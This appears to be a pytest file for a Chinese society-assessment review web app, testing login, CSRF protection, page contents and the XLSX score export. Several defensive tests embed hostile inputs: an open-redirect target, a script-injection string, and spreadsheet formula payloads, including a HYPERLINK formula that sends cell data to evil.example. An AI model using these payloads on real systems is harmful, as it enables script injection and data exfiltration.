"""The Chinese web pages, fetched as a browser would (cookie login), and the XLSX export.

The pages only read: what they show is checked against the API's answers.
They run on SQLite alone; the API tests cover both databases.
"""

from __future__ import annotations

import html
import io
import re
import shutil

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from conftest import browser_login, login_form_token, sample
from ingest.db.models import Submission
from ingest.service.deps import COOKIE


@pytest.fixture
def database_url(tmp_path, migrated_sqlite) -> str:
    copy = tmp_path / "kaohe.db"
    shutil.copyfile(migrated_sqlite, copy)
    return f"sqlite:///{copy}"


@pytest.fixture
def web(reviewed):
    """The reviewed submission, and the test client logged in as its reviewer through the login page."""
    service, reviewer, submission = reviewed
    assert browser_login(service, "reviewer1", "reviewer1-secret").status_code == 303
    return service, reviewer, submission


def text_of(page: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", page))


def test_pages_send_an_anonymous_visitor_to_the_login_page(service):
    response = service.client.get("/submissions/1", follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"] == "/login?next=/submissions/1"
    page = service.client.get("/login?next=/submissions/1").text
    assert "登录" in page and 'value="/submissions/1"' in page


def test_login_page_says_when_the_password_is_wrong(service):
    response = browser_login(service, "admin", "not-the-password")
    assert response.status_code == 401 and "用户名或密码错误" in response.text
    assert COOKIE not in service.client.cookies


def test_the_login_form_needs_its_own_pages_token(service):
    """Login CSRF: another site cannot post its own credentials to log a reviewer in as someone else."""
    forged = service.client.post("/login", data={"username": "admin", "password": "admin-pass-2021", "next": "/"},
                                 follow_redirects=False)
    assert forged.status_code == 403 and "登录页面已过期" in forged.text and COOKIE not in service.client.cookies
    login_form_token(service.client)  # the visitor's own login page: its cookie
    other = service.client.post("/login", follow_redirects=False, data={
        "username": "admin", "password": "admin-pass-2021", "next": "/", "csrf": login_form_token(TestClient(service.app))})
    assert other.status_code == 403 and COOKIE not in service.client.cookies


def test_login_sets_a_strict_http_only_cookie_and_never_redirects_off_site(service):
    response = service.client.post(
        "/login", data={"username": "admin", "password": "admin-pass-2021", "next": "//evil.example/x",
                        "csrf": login_form_token(service.client)},
        follow_redirects=False,
    )
    assert response.status_code == 303 and response.headers["location"] == "/"
    cookie = response.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie.replace("Strict", "strict")


def test_submission_list_shows_status_and_suggested_total(web):
    service, _, submission = web
    page = text_of(service.client.get("/").text)
    assert submission["society"] in page and "已完成" in page
    assert f"{submission['suggested_total']:g}（{submission['suggested_grade']}）" in page


def evidence_links(page: str) -> dict[str, str]:
    """The evidence links of the proposal cards and the self-evaluation findings: anchor → text shown."""
    return {a: html.unescape(t) for a, t in re.findall(r'<a href="#(ev-[^"]+)" class="jump">([^<“]*)', page)}


def test_review_page_highlights_every_evidence_span_by_its_file_name(web):
    """A Word document has no fixed pages: its evidence is named by the file, not “d1 第1页”."""
    service, reviewer, submission = web
    page = service.client.get(f"/submissions/{submission['id']}").text
    proposals = service.client.get(f"/api/submissions/{submission['id']}/proposals", headers=reviewer).json()
    spans = {(e["document"], e["start"], e["end"]): e for p in proposals for e in p["evidence"]}
    assert spans
    links = evidence_links(page)
    for document, start, end in spans:
        anchor = f"ev-{document}-{start}-{end}"
        assert page.count(f'id="{anchor}"') == 1, anchor
        assert links[anchor] == "01_kuangye.docx"
    marked = "".join(html.unescape(m) for m in re.findall(r'<mark class="ev"[^>]*>([^<]*)</mark>', page))
    for span in spans.values():
        assert span["text"].replace("\n", "") in marked.replace("\n", "")
    assert "第1页" not in text_of(page) and "d1" not in set(links.values())


def test_pdf_evidence_is_named_by_file_and_page(web):
    service, reviewer, _ = web
    submission = service.submit(reviewer, sample("01_kuangye.pdf"))
    page = service.client.get(f"/submissions/{submission['id']}").text
    proposals = service.client.get(f"/api/submissions/{submission['id']}/proposals", headers=reviewer).json()
    links = evidence_links(page)
    spans = [e for p in proposals for e in p["evidence"]]
    assert spans and {links[f"ev-{e['document']}-{e['start']}-{e['end']}"] for e in spans} == {
        f"01_kuangye.pdf 第{e['page']}页" for e in spans}
    assert '<div class="page-mark">第1页</div>' in page


def test_review_page_groups_proposals_by_the_rubrics_categories(web):
    service, reviewer, submission = web
    page = service.client.get(f"/submissions/{submission['id']}").text
    rubric = service.client.get("/api/rubrics/jiangxi-2021-society", headers=reviewer).json()
    positions = [page.index(f"<h2>{c['name']} ") for c in rubric["categories"]]
    assert positions == sorted(positions)
    for category in rubric["categories"]:
        section = page[page.index(f"<h2>{category['name']} "):]
        first = category["groups"][0]["indicators"][0]["id"]
        assert f'data-indicator="{first}"' in section


def test_a_cookie_alone_cannot_change_anything(web):
    service, _, submission = web
    page = service.client.get(f"/submissions/{submission['id']}").text
    csrf = re.search(r'<meta name="csrf-token" content="([^"]+)"', page).group(1)
    proposal_id = re.search(r'<article class="proposal pending" id="p-(\d+)"', page).group(1)
    forged = service.client.post(f"/api/proposals/{proposal_id}/confirm", json={"version": 1})
    assert forged.status_code == 403 and "刷新页面" in forged.json()["detail"]
    sent = service.client.post(f"/api/proposals/{proposal_id}/confirm", json={"version": 1},
                               headers={"X-CSRF-Token": csrf})
    assert sent.status_code == 200


def _total(page: str) -> str:
    """The score bar's total as a reviewer sees it: its words without the parts the page hides."""
    bar = page[page.index('<div class="total">'):page.index('<div class="links">')]
    return " ".join(text_of(re.sub(r'<div id="[\w-]+" hidden>.*?</div>', "", bar, flags=re.S)).split())


def test_before_any_review_the_header_shows_kaohes_suggestion_not_a_failing_zero(web):
    service, reviewer, submission = web
    shown = _total(service.client.get(f"/submissions/{submission['id']}").text)
    suggestion = f"待审核 · kaohe 建议 {submission['suggested_total']:g} / 100 · 建议等次 {submission['suggested_grade']}"
    assert shown.startswith(suggestion) and "审核得分" not in shown and "不合格" not in shown
    proposal = next(p for p in service.client.get(f"/api/submissions/{submission['id']}/proposals",
                                                   headers=reviewer).json() if p["proposed_score"] > 0)
    service.client.post(f"/api/proposals/{proposal['id']}/confirm", json={"version": proposal["version"]}, headers=reviewer)
    shown = _total(service.client.get(f"/submissions/{submission['id']}").text)
    assert shown.startswith(f"审核得分 {proposal['proposed_score']:g} / 100") and "kaohe 建议" not in shown


def test_review_page_shows_the_decisions_and_the_total(web):
    service, reviewer, submission = web
    proposal = next(p for p in service.client.get(f"/api/submissions/{submission['id']}/proposals",
                                                   headers=reviewer).json() if p["proposed_score"] > 0)
    service.client.post(f"/api/proposals/{proposal['id']}/adjust",
                        json={"version": proposal["version"], "value": 1, "reason": "只认定一项"}, headers=reviewer)
    page = service.client.get(f"/submissions/{submission['id']}").text
    assert '<strong id="total">1</strong>' in page
    card = page[page.index(f'id="p-{proposal["id"]}"'):]
    card = card[:card.index("</article>")]
    assert "已调整" in card and "理由：只认定一项" in card and '<strong class="counted">1</strong>' in card
    trail = text_of(service.client.get(f"/submissions/{submission['id']}/trail").text)
    assert "reviewer1" in trail and "调整" in trail and "只认定一项" in trail


@pytest.mark.parametrize("status, shown", [("processing", "材料正在识别"), ("failed", "文件“x.pdf”在存储中丢失")])
def test_unfinished_submission_shows_its_status_instead_of_the_review(web, status, shown):
    service, _, submission = web
    with service.app.state.sessions() as db:
        row = db.get(Submission, submission["id"])
        row.status, row.error = status, ("无法处理：文件“x.pdf”在存储中丢失" if status == "failed" else None)
        db.commit()
    page = service.client.get(f"/submissions/{submission['id']}").text
    assert shown in page and 'id="review"' not in page and 'id="pending"' in page


def test_society_sees_only_its_own_pages(web):
    service, _, submission = web
    society = service.user("xuehui_b", role="society", society="江西省作物学会")
    service.client.cookies.clear()
    browser_login(service, "xuehui_b", "xuehui_b-secret")
    assert submission["society"] not in text_of(service.client.get("/").text)
    response = service.client.get(f"/submissions/{submission['id']}")
    assert response.status_code == 404 and "不存在或无权查看" in response.text
    assert service.client.get("/users").status_code == 403
    own = service.submit(society, sample("02_zuowu.docx"), year=2021)
    page = service.client.get(f"/submissions/{own['id']}")
    assert page.status_code == 200 and 'data-action="confirm"' not in page.text


def test_admin_page_lists_accounts(web):
    service, _, _ = web
    assert service.client.get("/users").status_code == 403
    service.client.cookies.clear()
    browser_login(service, "admin", "admin-pass-2021")
    page = text_of(service.client.get("/users").text)
    assert "reviewer1" in page and "评审" in page and "新建账号" in page and "停用" in page and "重置密码" in page
    reviewer_id = next(u["id"] for u in service.client.get("/api/users").json() if u["username"] == "reviewer1")
    csrf = re.search(r'name="csrf-token" content="([^"]+)"', service.client.get("/users").text).group(1)
    stopped = service.client.post(f"/api/users/{reviewer_id}/deactivate", json={"reason": "借调"}, headers={"X-CSRF-Token": csrf})
    assert stopped.status_code == 200
    page = text_of(service.client.get("/users").text)
    assert "已停用" in page and "启用" in page and "停用账号" in page and "借调" in page


def test_xlsx_export_has_every_indicator_the_total_and_the_trail(web):
    service, reviewer, submission = web
    proposal = next(p for p in service.client.get(f"/api/submissions/{submission['id']}/proposals",
                                                   headers=reviewer).json() if p["proposed_score"] > 0)
    decided = service.client.post(f"/api/proposals/{proposal['id']}/confirm",
                                  json={"version": proposal["version"]}, headers=reviewer).json()
    response = service.client.get(f"/api/submissions/{submission['id']}/score.xlsx", headers=reviewer)
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    book = load_workbook(io.BytesIO(response.content))
    sheet = book["评分表"]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    score = decided["score"]
    by_label = {r[2]: r for r in rows if r[2]}
    for line in score["indicators"]:
        row = by_label[line["label"]]
        assert row[3] == line["max"] and row[6] == line["score"] and row[5] == line["decision_label"]
    confirmed = by_label[proposal["label"]]
    assert confirmed[5] == "已确认" and confirmed[6] == proposal["proposed_score"]
    assert all(f"01_kuangye.docx：{e['text']}" in confirmed[8] for e in proposal["evidence"])
    assert "第1页" not in confirmed[8]
    assert by_label["合计"][6] == score["total"] and by_label["等次"][6] == score["grade"]
    trail = [[c.value for c in row] for row in book["审核记录"].iter_rows(min_row=2)]
    assert [(t[1], t[3], t[7]) for t in trail] == [("reviewer1", "确认", proposal["proposed_score"])]


def test_trail_and_export_name_indicators_and_reviewers_and_start_from_kaohes_suggestion(web):
    service, _, submission = web
    body = {"username": "wang", "password": "wang-secret-1", "role": "reviewer", "display_name": "王评审"}
    assert service.client.post("/api/users", json=body, headers=service.admin).status_code == 201
    wang = service.login("wang", "wang-secret-1")
    proposal = next(p for p in service.client.get(f"/api/submissions/{submission['id']}/proposals",
                                                   headers=wang).json() if p["proposed_score"] > 0)
    service.client.post(f"/api/proposals/{proposal['id']}/adjust",
                        json={"version": proposal["version"], "value": 0.5, "reason": "只认定一半"}, headers=wang)
    suggested = f"{proposal['proposed_score']:g}"

    trail = text_of(service.client.get(f"/submissions/{submission['id']}/trail").text)
    assert "王评审" in trail and proposal["label"][:20] in trail and proposal["indicator_id"] not in trail
    assert f"kaohe 建议{suggested}分（待审核）" in trail and "待审核，计0分" not in trail
    event = service.client.get(f"/api/submissions/{submission['id']}/trail", headers=wang).json()[0]
    assert (event["label"], event["user_name"], event["user"]) == (proposal["label"], "王评审", "wang")

    book = load_workbook(io.BytesIO(service.client.get(f"/api/submissions/{submission['id']}/score.xlsx",
                                                       headers=wang).content))
    row = [c.value for c in next(book["审核记录"].iter_rows(min_row=2))]
    assert row[1:8] == ["王评审", proposal["label"], "调整", "kaohe 建议（待审核）", proposal["proposed_score"], "已调整", 0.5]


def test_cards_and_live_updates_name_the_reviewer_by_display_name(web):
    service, _, submission = web
    body = {"username": "wang", "password": "wang-secret-1", "role": "reviewer", "display_name": "王评审"}
    assert service.client.post("/api/users", json=body, headers=service.admin).status_code == 201
    wang = service.login("wang", "wang-secret-1")
    proposal = service.client.get(f"/api/submissions/{submission['id']}/proposals", headers=wang).json()[0]
    service.client.post(f"/api/proposals/{proposal['id']}/confirm", json={"version": proposal["version"]}, headers=wang)

    # What the page polls for other reviewers' decisions names them as the card does.
    polled = service.client.get(f"/api/submissions/{submission['id']}/proposals").json()[0]
    assert (polled["reviewed_by"], polled["reviewed_by_name"]) == ("wang", "王评审")
    page = service.client.get(f"/submissions/{submission['id']}").text
    card = page[page.index(f'id="p-{proposal["id"]}"'):]
    by = text_of(re.search(r'<span class="by small">(.*?)</span>', card).group(1))
    assert by.startswith("王评审 ") and "wang" not in by


def test_the_review_pages_filter_is_kept_in_the_address_and_in_next_and_previous(web):
    service, reviewer, older = web
    newer = service.submit(reviewer, sample("02_zuowu.docx"))
    pressed = re.compile(r'data-filter="(\w+)" aria-pressed="true"')

    page = service.client.get(f"/submissions/{newer['id']}?filter=pending").text
    assert pressed.findall(page) == ["pending"]
    assert f'href="/submissions/{older["id"]}?filter=pending" id="next-submission"' in page
    page = service.client.get(f"/submissions/{older['id']}?filter=pending").text
    assert f'href="/submissions/{newer["id"]}?filter=pending" id="previous-submission"' in page
    # Without a filter, or with one the page does not have: everything, and plain links.
    for address in (f"/submissions/{newer['id']}", f"/submissions/{newer['id']}?filter=<b>"):
        page = service.client.get(address).text
        assert pressed.findall(page) == ["all"] and f'href="/submissions/{older["id"]}" id="next-submission"' in page


def test_names_from_uploads_are_shown_as_text_not_markup(web):
    service, reviewer, _ = web
    hostile = "<script>alert(1)</script>学会"
    service.submit(reviewer, sample("02_zuowu.docx"), society=hostile)
    page = service.client.get("/").text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;学会" in page and "<script>alert" not in page


def test_review_page_says_when_no_file_was_recognised_as_the_summary(web):
    from fixtures.build import word_bytes

    service, reviewer, _ = web
    report = word_bytes(["江西省农业工程学会2021年工作开展情况",
                         "2021年6月18日，学会在南昌举办2021年学术年会，来自全省52个会员单位的代表300余人参会。"])
    submission = service.submit(reviewer, ("开展情况.docx", report))
    assert submission["status"] == "done"
    page = text_of(service.client.get(f"/submissions/{submission['id']}").text)
    assert "注意：材料中没有识别出工作总结，已把最长的文本“开展情况.docx”当作工作总结读取" in page


def test_xlsx_export_writes_hostile_reasons_and_names_as_text_not_formulas(web):
    service, reviewer, _ = web
    submission = service.submit(reviewer, sample("02_zuowu.docx"), society="=1+2")
    reason = '=HYPERLINK("http://evil.example/?d="&C4,"查看依据")'
    proposals = service.client.get(f"/api/submissions/{submission['id']}/proposals", headers=reviewer).json()
    for proposal, text in zip(proposals, [reason, "@SUM(A1:A9)", "+1+2"]):
        response = service.client.post(f"/api/proposals/{proposal['id']}/reject",
                                       json={"version": proposal["version"], "reason": text}, headers=reviewer)
        assert response.status_code == 200, response.text
    response = service.client.get(f"/api/submissions/{submission['id']}/score.xlsx", headers=reviewer)
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert {reason, "@SUM(A1:A9)", "+1+2"} <= values
    assert any(isinstance(v, str) and v.startswith("学会：=1+2") for v in values)


def test_a_jiangxi_society_scored_against_a_chongqing_district_table_is_warned_about(web):
    service, reviewer, submission = web
    fitting = text_of(service.client.get(f"/submissions/{submission['id']}").text)
    assert "可能不适用" not in fitting
    wrong = service.submit(reviewer, sample("02_zuowu.docx"), rubric="chongqing-2020-district")
    page = text_of(service.client.get(f"/submissions/{wrong['id']}").text)
    assert ("注意：所选评分表“2020年度区县（自治县）科协工作考核自评表”可能不适用于这份材料：材料来自江西，"
            "评分表是重庆市科学技术协会的；材料是学会（协会、研究会）的，评分表用于区县科协。") in page


def test_the_upload_form_starts_with_the_accounts_rubric_else_the_deployments(start_service):
    service = start_service(default_rubric="zhejiang-2020-society")
    selected = r'<option value="([\w-]+)" selected>'
    body = {"username": "cq", "password": "cq-secret-2020", "role": "reviewer", "default_rubric": "chongqing-2020-district"}
    assert service.client.post("/api/users", json=body, headers=service.admin).status_code == 201
    wrong = {**body, "username": "other", "default_rubric": "no-such-table"}
    assert service.client.post("/api/users", json=wrong, headers=service.admin).status_code == 422
    browser_login(service, "admin", "admin-pass-2021")
    assert re.findall(selected, service.client.get("/upload").text) == ["zhejiang-2020-society"]
    service.client.cookies.clear()
    browser_login(service, "cq", "cq-secret-2020")
    assert re.findall(selected, service.client.get("/upload").text) == ["chongqing-2020-district"]
